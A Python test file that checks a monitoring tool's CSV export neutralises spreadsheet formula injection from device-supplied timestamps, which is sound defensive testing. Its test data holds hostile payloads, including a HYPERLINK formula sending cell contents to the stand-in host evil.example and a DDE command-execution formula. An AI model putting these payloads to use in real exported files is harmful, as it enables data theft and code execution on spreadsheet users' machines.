"""A module's text reaches ``fourgmon export`` inert: no live spreadsheet formula in the CSV.

Through the real path: ``fourgmon serve`` as a process, a scripted module on loopback,
then ``fourgmon export`` as a process (OWASP CSV injection).
"""

from __future__ import annotations

import asyncio
import csv
import io
import signal
import subprocess
import sys
from pathlib import Path

from fourgmon.protocol.messages import PushMsgAck
from fourgmon.sim.scripted import ScriptedModule, make_push_msg
from tests.processes import ServeProcess

IMEI = "865501040783269"
# What a hostile or broken module may put in "time": every formula trigger, and a normal time.
HOSTILE_TIMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "2026-11-24 08:00:00",
]


async def _push(port: int) -> None:
    module = await ScriptedModule.connect("127.0.0.1", port, imei=IMEI)
    try:
        for packnum, text in enumerate(HOSTILE_TIMES):
            module.send(make_push_msg(IMEI, packnum, {0: [1, 2]}, time=text, temperature=-5.0))
            assert (await module.expect(PushMsgAck, timeout=5)).packnum == packnum
    finally:
        await module.aclose()


def test_hostile_device_time_comes_out_of_export_neutralised(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    serve = ServeProcess(data_dir)
    try:
        asyncio.run(_push(serve.port))
        serve.send_signal(signal.SIGTERM)
        assert serve.wait() == 0, serve.log()
    finally:
        serve.kill()
    out = subprocess.run(
        [sys.executable, "-m", "fourgmon", "export", "--data-dir", str(data_dir), "--imei", IMEI],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout)))[1:]
    assert [r[2] for r in rows] == [
        "'" + t if t[0] in "=+-@" else t for t in HOSTILE_TIMES
    ]  # every trigger neutralised, the plain time as it was, nothing lost
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
        assert row[5] == "-5.0"  # numbers stay numbers, also negative ones
        assert row[0] == IMEI
